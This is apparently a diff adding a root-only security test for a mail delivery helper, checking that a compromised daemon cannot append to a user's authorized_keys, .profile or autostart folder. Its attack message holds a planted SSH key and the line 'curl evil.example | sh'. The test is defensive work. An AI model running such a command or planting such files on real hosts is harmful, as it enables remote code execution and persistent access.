@@ -1,0 +1,73 @@
+// A security review of the delivery helper (issue 16), as a hostile local user, a hostile SMTP
+// peer and a compromised daemon, against the real daemon and helper (root only: real users).
+// Each test is an attack that worked before its fix.
+
+import { execFileSync } from 'node:child_process';
+import fs from 'node:fs';
+import path from 'node:path';
+import { Readable } from 'node:stream';
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import type { LocalConfig } from '../../src/config/schema.js';
+import { DeliveryHelper } from '../../src/privsep/client.js';
+import type { DeliveryRequest } from '../../src/privsep/protocol.js';
+import { stopAfterEach } from '../helpers/cleanup.js';
+import { makeSite, startDaemon } from '../helpers/daemon.js';
+import { waitFor } from '../helpers/ports.js';
+import { sendMessage } from '../helpers/smtp-client.js';
+import { filesIn, makeUsers, removeUsers, writeAs, type TestUser } from '../helpers/system-users.js';
+import { isRoot, tmpDir } from '../helpers/tmp.js';
+
+/** Background processes the attacks leave behind (their pids, written by the attack itself). */
+const leftovers: string[] = [];
+test.after(() => {
+  for (const f of leftovers.splice(0)) {
+    try {
+      process.kill(Number(fs.readFileSync(f, 'utf8').trim()), 'SIGKILL');
+    } catch {
+      /* gone already */
+    }
+  }
+  removeUsers();
+});
+const keep = stopAfterEach(test);
+
+const MSG = 'From: x@remote.example\r\nSubject: t\r\n\r\nhello\r\n';
+const QUEUE = '[queue]\nretry_min = "1h"\n';
+const users = (n: number) => makeUsers(n, { prefix: 'atk' });
+
+if (!isRoot()) {
+  test.skip('attacks on the delivery helper (need root to create users)', () => undefined);
+} else {
+  test('a compromised daemon cannot make the helper append a message to a user\'s ~/.ssh/authorized_keys or ~/.profile: only the configured mailbox', async () => {
+    const [u] = users(1) as [TestUser];
+    const spool = tmpDir('tidemail-spool-');
+    fs.chmodSync(spool, 0o1777);
+    fs.mkdirSync(path.join(u.home, '.ssh'), { mode: 0o700 });
+    fs.chownSync(path.join(u.home, '.ssh'), u.uid, u.gid);
+    const keys = writeAs(u, path.join(u.home, '.ssh', 'authorized_keys'), '', 0o600);
+    const profile = writeAs(u, path.join(u.home, '.profile'), '# mine\n');
+    const helper = await DeliveryHelper.start({ minUid: 1000, maildir: '~/Maildir', mbox: `${spool}/%u`, mda: [], allowMailToCommands: ['forward'], allowMailToFiles: ['forward'] } as unknown as LocalConfig);
+    try {
+      const evil = () => Readable.from([Buffer.from('Subject: hi\r\n\r\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil mallory\r\ncurl evil.example | sh\r\n')]);
+      const req = (more: Partial<DeliveryRequest>): DeliveryRequest => ({ user: u.name, uid: u.uid, kind: 'mbox', sender: 'x@remote.example', recipient: `${u.name}@tidemail.test`, ...more });
+      for (const r of [req({ path: keys }), req({ path: profile }), req({ kind: 'maildir', path: path.join(u.home, '.config', 'autostart') })]) {
+        const got = await helper.deliver(r, evil);
+        assert.is(got.outcome, 'tempfail', `${r.kind} ${r.path}: ${got.message}`);
+        assert.match(got.message, /refused: .* is not .*'s (mbox|Maildir)/);
+      }
+      assert.is(fs.readFileSync(keys, 'utf8'), '');
+      assert.is(fs.readFileSync(profile, 'utf8'), '# mine\n');
+      assert.not.ok(fs.existsSync(path.join(u.home, '.config')));
+      // The configured mailboxes still get mail.
+      const md = await helper.deliver(req({ kind: 'maildir', path: path.join(u.home, 'Maildir') }), evil);
+      assert.is(md.outcome, 'ok', md.message);
+      const mb = await helper.deliver(req({ path: path.join(spool, u.name) }), evil);
+      assert.is(mb.outcome, 'ok', mb.message);
+    } finally {
+      helper.stop();
+    }
+  });
+}
+
+test.run();
